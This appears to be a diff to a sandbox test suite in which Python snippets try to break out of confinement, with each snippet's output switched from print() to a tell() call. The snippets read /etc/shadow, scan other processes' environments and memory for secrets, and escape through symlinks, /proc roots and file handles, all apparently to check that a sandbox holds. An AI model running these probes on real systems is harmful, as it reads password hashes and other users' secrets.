@@ -7,7 +7,7 @@ from .program import harm
 
 PROGRAMS = (
     harm("read_a_file", "reads a file of another folder that anybody may read", """
-print(open(OUTSIDE + "/secret.txt").read(), flush=True)
+tell(open(OUTSIDE + "/secret.txt").read())
 """),
     harm("read_home", "reads the hidden files of the home folder", """
 import pwd
@@ -20,7 +20,7 @@ for home in homes - {"/"}:
             except OSError:
                 continue
             if "SECRET-" in text:
-                print(text, flush=True)
+                tell(text)
 """),
     harm("read_shadow", "reads the password hashes", """
 if open("/etc/shadow").read():
@@ -28,13 +28,13 @@ if open("/etc/shadow").read():
 """),
     harm("read_environment", "looks for a secret in its own environment", """
 import re
-print(re.findall("SECRET-[0-9a-f]{32}", str(dict(os.environ)) + open("/proc/self/environ").read()), flush=True)
+tell(re.findall("SECRET-[0-9a-f]{32}", str(dict(os.environ)) + open("/proc/self/environ").read()))
 """),
     harm("read_other_environments", "looks for a secret in the environment of every process", """
 import re
 for pid in [str(os.getppid()), *map(str, VICTIMS), *(name for name in os.listdir("/proc") if name.isdigit())]:
     try:
-        print(re.findall("SECRET-[0-9a-f]{32}", open(f"/proc/{pid}/environ", errors="replace").read()), flush=True)
+        tell(re.findall("SECRET-[0-9a-f]{32}", open(f"/proc/{pid}/environ", errors="replace").read()))
     except OSError:
         pass
 """),
@@ -48,7 +48,7 @@ for pid in (*VICTIMS, os.getppid()):
             if "w" in line.split()[1] and end - start < 64 << 20:
                 memory.seek(start)
                 for found in re.findall(rb"SECRET-[0-9a-f]{32}", memory.read(end - start)):
-                    print(found.decode(), flush=True)
+                    tell(found.decode())
     except (OSError, OverflowError, ValueError):
         pass
 """),
@@ -124,7 +124,7 @@ for folder in (".", "/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
     link = os.path.join(folder, MARK)
     try:
         os.symlink(OUTSIDE, link)
-        print(open(link + "/secret.txt").read(), flush=True)
+        tell(open(link + "/secret.txt").read())
         open(link + "/keep.txt", "a").write("more")
     except OSError:
         pass
@@ -133,7 +133,7 @@ for folder in (".", "/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
 for folder in (".", "/tmp", "/dev/shm", OUTSIDE):
     try:
         os.link(OUTSIDE + "/owned.txt", os.path.join(folder, MARK))
-        print(open(os.path.join(folder, MARK)).read(), flush=True)
+        tell(open(os.path.join(folder, MARK)).read())
     except OSError:
         pass
 """),
@@ -141,7 +141,7 @@ for folder in (".", "/tmp", "/dev/shm", OUTSIDE):
 import glob
 for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + ["/proc/1/root", "/proc/self/root/..", "/.." * 20, "/oldroot", "/newroot"]:
     try:
-        print(open(root + OUTSIDE + "/secret.txt").read(), flush=True)
+        tell(open(root + OUTSIDE + "/secret.txt").read())
     except OSError:
         pass
 """),
@@ -150,9 +150,9 @@ for fd in range(256):
     for up in ("", "/".join([".."] * 30)):
         try:
             found = os.open((up or ".") + OUTSIDE + "/secret.txt", os.O_RDONLY, dir_fd=fd)
-            print(os.read(found, 1000), flush=True)
+            tell(os.read(found, 1000))
             os.fchdir(fd)
-            print(open("." + OUTSIDE + "/secret.txt").read(), flush=True)
+            tell(open("." + OUTSIDE + "/secret.txt").read())
         except OSError:
             pass
 """),
@@ -161,11 +161,12 @@ import stat
 for fd in range(3, 256):
     try:
         if stat.S_ISREG(os.fstat(fd).st_mode):
-            print(os.pread(fd, 100000, 0), flush=True)
+            tell(os.pread(fd, 100000, 0))
     except OSError:
         pass
     try:
-        print(open(f"/proc/self/fd/{fd}", "rb").read(1) and os.readlink(f"/proc/self/fd/{fd}")) if stat.S_ISREG(os.fstat(fd).st_mode) else None
+        if stat.S_ISREG(os.fstat(fd).st_mode):
+            tell(open(f"/proc/self/fd/{fd}", "rb").read(100000))
     except OSError:
         pass
 """),
@@ -177,7 +178,7 @@ if syscall(303, -100, ctypes.c_char_p((OUTSIDE + "/secret.txt").encode()), handl
         base = os.open(folder, os.O_RDONLY)
         fd = syscall(304, base, handle, os.O_RDONLY)
         if fd >= 0:
-            print(os.read(fd, 1000), flush=True)
+            tell(os.read(fd, 1000))
 """),
     harm("io_uring", "asks the kernel's other queue for what a filter of system calls denies", """
 import ctypes
@@ -189,7 +190,7 @@ for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/pro
              f"/proc/{os.getppid()}/oom_score_adj", "/sys/kernel/mm/ksm/run", "/sys/power/state", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda",
              "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs"):
     try:
-        open(path, "wb", 0).close()
+        os.close(os.open(path, os.O_WRONLY))
     except OSError:
         continue
     harm(f"may write {path}")
